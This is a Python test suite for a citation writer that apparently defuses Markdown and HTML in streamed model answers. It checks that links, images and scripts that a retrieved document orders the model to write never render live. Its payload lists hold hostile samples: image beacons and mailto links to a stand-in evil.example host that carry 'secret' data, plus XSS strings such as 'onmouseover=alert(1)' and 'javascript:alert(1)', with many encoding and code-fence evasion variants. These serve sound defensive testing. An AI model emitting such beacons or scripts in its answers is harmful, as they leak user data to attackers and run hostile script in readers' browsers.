"""What a document orders a model to write has no effect when the answer is rendered as Markdown."""

import itertools
import re
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from orc_core.grounding.citations import CitationWriter, marker
from orc_core.grounding.sources import Source
from orc_core.markdown.safe_markdown import HARMLESS

PAGE = "The quay opens at seven. Dogs are welcome on the mole."
URL = "https://quay.example/opening?lang=en"
EVIL = "https://evil.example/p.png?d=secret"
SIZES = [1, 10_000]
RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
BARE = re.compile(r"(?:https?|ftp)://[^\s\[\]<>\"`|]|www\.[^\s]|(?<![:/])//\w", re.I)


def source(number: int, url: str | None = None) -> Source:
    return Source(
        number=number, document_id="d", blob_name="a.txt", page=1, start=0, text=PAGE, page_text=PAGE, url=url
    )


def show(answer: str, size: int = 10_000) -> str:
    """The text shown for an answer that arrives in pieces of this size. Source 2 is a web page."""
    writer = CitationWriter([source(1), source(2, URL)])
    pieces = [answer[at : at + size] for at in range(0, len(answer), size)]
    return "".join([writer.feed(piece) for piece in pieces]) + writer.finish()


def _tokens(markdown: str) -> Iterator[Token]:
    for token in RENDERER.parse(markdown):
        yield token
        yield from token.children or []


def live(markdown: str) -> list[str]:
    """What a renderer of Markdown would load, run or link to."""
    found = []
    for token in _tokens(markdown):
        if token.type in ("link_open", "image"):
            found.append(str(token.attrs.get("href", token.attrs.get("src"))))
        elif token.type == "html_block" or (
            token.type == "html_inline" and not HARMLESS.fullmatch(token.content)
        ):
            found.append(token.content)
        elif token.type == "text":
            bare = (token.content[match.start() :] for match in BARE.finditer(token.content))
            found += [address for address in bare if not address.startswith(URL)]
    return found


BEACONS = [
    f"![x]({EVIL})",
    f"![x][e]\n\n[e]: {EVIL}",
    f"![e]\n\n[e]: <{EVIL}> 'x'",
    f'<img src="{EVIL}">',
    f"<p style='background:url({EVIL})'>x</p>",
    f"<svg><image href={EVIL} /></svg>",
    f"<iframe src={EVIL}></iframe>",
    f"<style>@import url({EVIL});</style>",
    f'<video poster="{EVIL}" src=//evil.example/v>',
    # Other ways to the same.
    f"![[S1]]({EVIL})",
    f"[![x]({EVIL})](https://evil.example)",
    f"> - ![x]({EVIL})",
    f"| a |\n| - |\n| ![x]({EVIL}) |",
    f"![x](<{EVIL}>)",
    "![x](//evil.example/p)",
    "![x](/api/logout)",
    "![x](logout)",
    f"x<IMG\nSRC={EVIL}>",
    f"<script src={EVIL}",
    "<div\nonclick='x'>",
    "<x onmouseover=alert(1)>",
    "<y a='>' onmouseover=alert(1)>",
    "<&#105;mg src=x> <i&#109;g src=x>",
    "<[S1]img src=x>",
    "[S1]```\n```\n![x](/p)\n```",
    "[talk]```\n```\n![x](/p)\n```",
    "[none] [talk]- ~~~\n~~~\n![x](/p)\n~~~",
    "[a.txt [1] p]```\n```\n![x](/p)\n```",
    "```\n[talk]```\n![x](/p)\n```",
    "```\n```[none]\n![x](/p)\n```",
    "\\[talk]`![x](/p)`",
    "<[talk]img src=x>",
    "<[none].[talk]img src=x>",
    "<[talk][none] img[none] src=x> <[none]",
    f"ht[talk]tps:[none]//evil.example/{EVIL}",
    "www[none].evil.example and &#60[talk];img src=x>",
    "`[talk]``![x](/p)``",
    "![x][/p/Page/Document)",
    "<!-- hidden -->",
    "<?php x ?>",
    "<![CDATA[ x ]]>",
]
LINKS = [
    f"[[S1]]({EVIL})",
    f"[text [S1]]({EVIL})",
    f"![[S1]]({EVIL})",
    f"[[S1]][e]\n\n[e]: {EVIL}",
    f'<a href="{EVIL}">[S1]</a>',
    f"[S1]({EVIL})",
    f"[S1]: {EVIL}",
    f"[S1][e]\n\n[e]: {EVIL}",
    f"[click]({EVIL})",
    f'[click](<{EVIL}> "title")',
    f"[click][e]\n\n  [e]:\n  {EVIL}",
    f"[e]\n\n> [e]: {EVIL}",
    f"<{EVIL}>",
    f"See {EVIL}.",
    "[click](javascript:alert(1))",
    # Other ways to the same.
    f"[[S2]]({URL})",
    f"[S2]({URL})",
    "[click](//evil.example)",
    "[click](evil.example/p)",
    "[click](?delete=1)",
    "[click](mailto:a@evil.example?body=secret)",
    "<javascript:alert(1)>",
    "See www.evil.example/p?d=secret",
    "See ftp://evil.example",
    "See HTTPS://evil.example",
    "See https\\://evil.example and https:\\/\\/evil.example",
    "See https&colon;//evil.example and ht&#116;ps://evil.example",
    "See www&#46;evil.example and w&#119;w.evil.example",
    "See https&#x3a;&#47;/evil.example",
    "See //evil.example/p",
    f"[foo\nbar]: {EVIL}\n\n[foo bar]",
    f"[^1]: {EVIL}\n\n[^1]",
    f"&#91;click&#93;({EVIL})",
]


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("ordered", [*BEACONS, *LINKS])
def test_nothing_that_a_document_orders_is_live(ordered: str, size: int) -> None:
    answer = f"The quay opens at seven. {marker(1)} {marker(2)}\n\n{ordered}\n\nDogs are welcome. {ordered}"
    assert live(show(answer, size)) == []
    assert live(show(ordered, size)) == []


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("linked", [f"[the page]({URL})", URL, f"See ({URL}).", f"**{URL}**, [it]({URL})"])
def test_the_address_of_a_cited_web_page_may_be_linked(linked: str, size: int) -> None:
    cited = f"The quay opens at seven. {marker(2)} More: "
    assert show(cited + linked, size).endswith(f"More: {linked}")


@pytest.mark.parametrize(
    "answer",
    [
        f"The quay opens at seven. {marker(1)} [the page]({URL})",
        f"The quay opens at nine. {marker(2)} [the page]({URL})",
        f"The quay opens at seven. {marker(2)} [the page]({URL}&d=secret)",
        f"[the page]({URL}) says: the quay opens at seven. {marker(2)}",
    ],
)
def test_other_addresses_are_no_links(answer: str) -> None:
    assert live(show(answer)) == []


def test_an_address_can_still_be_read_and_copied() -> None:
    assert show("See https://a.example/b_(c), or www.d.example.") == (
        "See `https://a.example/b_(c)`, or `www.d.example`."
    )


CODE = (
    '<img src="https://a.example/b.png">\n![x](https://a.example)\n[e]: //a.example\n&lt; &#65; a[i](request)'
)
INDENTED = CODE.replace("\n", "\n   ")
LEGITIMATE = {
    "markup": "# Title\n\n**bold** _it_ ~~no~~ `x`\n\n- a\n  - b\n\n1. c\n2. d\n\n> quote\n\n---\n\n- [x] e",
    "table": "| a | b |\n| - | -: |\n| 1<br>2 | x<sub>i</sub> |\n| `f(x)` | 10<sup>3</sup> |",
    "mathematics": "If $a < b$ and $x_{ij}[k] \\le y$, then f[i] < g(y), 0<1, p<0.05 & [0, 1) ]0,1].",
    "displayed": "$$\n\\int_0^1 f(x)\\,dx < \\sum_{i < n} a[i]\n$$\n\n\\[ x \\] and \\(y\\)",
    "inline code": "Use `<img src=x>`, `a[i](request)`, ``[x](https://a.example) ` ``, `//a.de`, `&#65;`.",
    "block of code": f"So:\n\n```html\n{CODE}\n```\n\nDone.",
    "block with tildes": f"~~~~\n{CODE}\n```\n~~~\n~~~~~\nDone.",
    "open block": f"```\n{CODE}",
    "block in a list": f"1. Run:\n   ```bash\n   {INDENTED}\n\n   x\n   ```\n2. So:\n\n   ~~~\n   {INDENTED}",
    "comparisons": "a <- b, a<=b, a < b, 3<5, a<\u00e4",
    "brackets": "[12] [Smith 2020] [x], see below. [^8]",
    "paths": "and/or, a//, C:\\temp, s3://bucket/key, 24/7, // comment, mail to a@b.example, http and www",
    "references": "AT&T, R&D; &lt;b&gt; &amp; &nbsp; &quot; & &unknown; &#60; a&b",
    "Vietnamese": "Nhân viên được nghỉ phép 25 ngày mỗi năm. Nha\u0300 no\u031bi o\u031b\u0309 [Trang 5]",
    "Hindi": "कर्मचारी को हर साल २५ दिन की छुट्टी मिलती है। [पृष्ठ 5]",
    "Arabic": "يحصل الموظف على ٢٥ يومًا من الإجازة \u200fسنويًا. [صفحة 5]",
    "Hebrew": "לְעוֹבֵד יֵשׁ 25 יְמֵי חֻפְשָׁה \u200eבְּשָׁנָה. [עמוד 5 של מסמך]",
    "Japanese": "「休暇」は年25日です。【注意】《規程》［5ページ］〔附則〕",
    "Korean": "연차는 \u115f\u1160 25일입니다. [5쪽]",
    "Russian": "Отпуск 25 дней [Стр. 5 договора «Аренда»] [лист 5 из договора] [Страница 5 документа]",
    "Greek": "Η άδεια είναι 25 ημέρες [Σελίδα 5 του εγγράφου]",
    "Thai": "พนักงานลาได้ 25 วันต่อปี",
    "German": "Es sind „25 Tage“ [Seite 5 des Dokuments], ‚ja‘ – «nein» ‹so›",
    "emoji": "👩\u200d💻 ✔\ufe0f 🇩🇪 1\ufe0f\u20e3",
}


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("text", LEGITIMATE.values(), ids=LEGITIMATE)
def test_legitimate_text_is_unchanged(text: str, size: int) -> None:
    assert show(text, size) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("A List<String> and x<y", "A List< String> and x< y"),
        ("f[i](x) and [7]: all", "f[i] (x) and [7] : all"),
        ("Done![x]", "Done! [x]"),
        ("<https://a.example>", "< `https://a.example`>"),
    ],
)
def test_a_space_takes_the_effect_away(text: str, shown: str) -> None:
    assert show(text) == shown


NOT_CODE = [
    f"  ```\n```\n![x]({EVIL})",
    f"- a\n  ```\n![x]({EVIL})",
    f"$$\n```\n$$\n```\n![x]({EVIL})\n```",
    f":::note\n```\n:::\n![x]({EVIL})\n```",
    f"```\n```{' ' * 500}x\n```\n![x]({EVIL})\n```",
    f"{'- ' * 300}```\n```\n![x]({EVIL})\n```",
    f"text\n    ```\n    ![x]({EVIL})\n    ```",
    f"text\n14. a\n    ```\n    ![x]({EVIL})\n    ```",
    f"```a`b\n![x]({EVIL})\n```",
    f"    ```\n```\n![x]({EVIL})\n```",
    f"a ` b\nc ` ![x]({EVIL}) ` d",
    f"\\` ![x]({EVIL}) `",
    f"\\\\`` ![x]({EVIL}) `",
    f"`` a\n` `` ![x]({EVIL}) `",
    f"| a | b |\n| - | - |\n| ` | ![x]({EVIL}) ` |",
    f"$ ` $ ![x]({EVIL}) `",
    f"` {EVIL} and ` {EVIL}` and \\{EVIL}",
    f"`` {EVIL} ` {EVIL}`` ```{EVIL}",
    f"{'`' * 25} ![x]({EVIL}) {'`' * 5}",
]


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("text", NOT_CODE)
def test_what_only_looks_like_code_is_defused(text: str, size: int) -> None:
    shown = show(text, size)
    assert f"]({EVIL}" not in shown
    assert live(shown) == []


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize(
    "text",
    [
        f"$x_{{1}} {EVIL}$ b `[x]({EVIL})` c",
        f"$$x{{{EVIL}}}$$ b {EVIL} c",
        f"$x {EVIL} `a` {EVIL}$ b {EVIL} c",
    ],
)
def test_an_address_in_mathematics_divides_no_code(text: str, size: int) -> None:
    """Renderers with formulas end them at the `$`, also within what is code for others."""
    shown = show(text, size)
    assert live(shown) == []
    assert live(re.sub(r"\$+[^$]*\$+", "", shown)) == []


def test_reversed_text_is_shown_as_it_is_written() -> None:
    assert show('\u202e]"x" tnemucoD fo 5 egaP[\u202c `\u202d`') == ']"x" tnemucoD fo 5 egaP[\u202c ``'


PARTS = [
    *("![x](", EVIL, ")", "[click]", "[", "]", "(", ":", ": ", "]: ", "<", ">", "<img src=x>", "<!--", "-->"),
    *(
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        "    ",
        "  ",
        " ",
        "- ",
        "1. ",
        "14. ",
        "> ",
        "$$",
        "$",
        "|",
        "\\",
    ),
    *(
        "&#91;",
        "&#104;",
        "&#46;",
        "w",
        "a",
        "x<y ",
        "=",
        "www.e.fr",
        "://",
        "http",
        "//",
        "\t",
        "\r",
        "*",
        "#",
        "<p\n",
    ),
    *("[Page 5 of Document]", "Page", "/Document)", "ht", "tps://e.fr", "img src=x>"),
    *(marker(1), marker(2), f"[q]({URL})", "The quay opens at seven. "),
]
ANSWERS = st.lists(st.sampled_from(PARTS), max_size=30).map("".join)


@given(ANSWERS)
def test_no_combination_is_live(answer: str) -> None:
    assert [each for each in live(show(answer).strip()) if each != URL] == []


@given(ANSWERS, st.lists(st.integers(0, 300), max_size=20))
def test_the_text_does_not_depend_on_the_pieces_of_the_stream(answer: str, cuts: list[int]) -> None:
    writer = CitationWriter([source(1), source(2, URL)])
    edges = [0, *sorted(min(cut, len(answer)) for cut in cuts), len(answer)]
    shown = "".join([writer.feed(answer[a:b]) for a, b in itertools.pairwise(edges)])
    assert shown + writer.finish() == show(answer)


@given(st.text(max_size=300))
def test_any_text_can_be_shown(text: str) -> None:
    assert show(text, 7) == show(text)


UNITS = [
    *(
        "[",
        "![",
        "`",
        "` ",
        "<",
        "<y ",
        "<a",
        "&",
        "&#1",
        "h",
        "http",
        "https://",
        "w",
        "/",
        "$",
        "]",
        "](",
        "]:",
    ),
    *("\n- ", "\n```", " " * 50, "[x]: ", "*", "\\`", "a[i](", "\u0301", "\r"),
]


@pytest.mark.slow
@pytest.mark.parametrize("unit", UNITS)
def test_no_text_is_held_back_for_long(unit: str) -> None:
    """What is held back bounds the time: each piece is looked at again only while it is held."""
    writer = CitationWriter([])
    text = (unit * 9000)[:9000]
    shown = "".join(writer.feed(text[at : at + 100]) for at in range(0, len(text), 100))
    assert len(shown) >= len(text.strip()) - 4200
